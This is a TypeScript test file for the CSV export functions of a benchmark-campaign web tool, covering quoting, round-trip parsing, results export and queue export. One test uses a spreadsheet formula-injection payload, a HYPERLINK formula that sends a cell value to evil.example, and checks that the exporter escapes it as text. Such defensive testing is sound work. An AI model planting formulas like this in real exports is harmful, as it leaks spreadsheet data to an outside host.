import { csvField, parseCsv, resultsCsv, renderCsv, CSV_FIGURES, queueCsv, type QueueRun } from '@erg/web';
import { results } from './fixtures';

describe('CSV (RFC 4180)', () => {
  it('quotes fields with commas, quotes and line breaks, and ends lines with CRLF', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(Number.POSITIVE_INFINITY)).toBe('');
    expect(csvField(false)).toBe('false');
    expect(renderCsv([['a', 'b'], [1, 'x,y']])).toBe('a,b\r\n1,"x,y"\r\n');
  });

  it('parses back what it writes, whatever the fields hold', () => {
    const rows = [['key', 'note'], ['n=1;w=2', 'a, "quoted"\r\nvalue'], ['', 'é ü']];
    expect(parseCsv(renderCsv(rows))).toEqual(rows);
  });

  it('exports results with the CLI columns, marks and components', () => {
    const text = resultsCsv(results());
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['key', 'param_n', 'w', ...CSV_FIGURES, 'marks', 'energy_cpu_j', 'energy_memory_j']);
    expect(rows).toHaveLength(4);
    const a = Object.fromEntries(header!.map((h, i) => [h, rows[0]![i]]));
    expect(a).toMatchObject({ key: 'n=1;w=1', param_n: '1', w: '1', n: '3', time_s: '10', time_ci95_low: '9.5', energy_j: '500', pareto: 'true', best_time: 'true', best_energy: 'false', best_edp: 'true', marks: 'P T D', energy_cpu_j: '375' });
    const d = Object.fromEntries(header!.map((h, i) => [h, rows[3]![i]]));
    expect(d).toMatchObject({ key: 'n=2;w=2', time_s: '', energy_j: '', pareto: 'false', marks: '' });
  });

  it('exports the queue table', () => {
    const run: QueueRun = {
      id: 'r1', campaignId: 'c1', campaignName: 'sweep, big', owner: 'alice', cluster: 'local', configurationKey: 'n=1', parameters: { n: 1 }, repetition: 1,
      state: 'running', slurmJobId: '42', partition: 'gh200', nodes: 1, nodeList: 'node1', createdAt: '2026-11-30T03:00:00.000Z', submittedAt: '2026-11-30T03:00:01.000Z',
      startedAt: '2026-11-30T03:00:10.000Z', reason: null, powerW: 150.5,
    };
    const [header, row] = parseCsv(queueCsv([run], Date.parse('2026-11-30T03:01:10.000Z')));
    expect(header![2]).toBe('campaign');
    expect(row![2]).toBe('sweep, big');
    expect(row![header!.indexOf('elapsed_s')]).toBe('60');
    expect(row![header!.indexOf('power_w')]).toBe('150.5');
  });

  it('exports campaign names and owners that begin like a formula as text, never as a formula', () => {
    const run: QueueRun = {
      id: 'r1', campaignId: 'c1', campaignName: '=HYPERLINK("https://evil.example/?"&A1)', owner: '@ci', cluster: 'local', configurationKey: 'n=1', parameters: { n: 1 }, repetition: 1,
      state: 'pending', slurmJobId: null, partition: null, nodes: null, nodeList: null, createdAt: '2026-11-30T03:00:00.000Z', submittedAt: null,
      startedAt: null, reason: '-x', powerW: null,
    };
    const [header, row] = parseCsv(queueCsv([run], Date.parse('2026-11-30T03:01:10.000Z')));
    expect(row![header!.indexOf('campaign')]).toBe('\'=HYPERLINK("https://evil.example/?"&A1)');
    expect(row![header!.indexOf('owner')]).toBe("'@ci");
    expect(row![header!.indexOf('reason')]).toBe("'-x");
  });
});
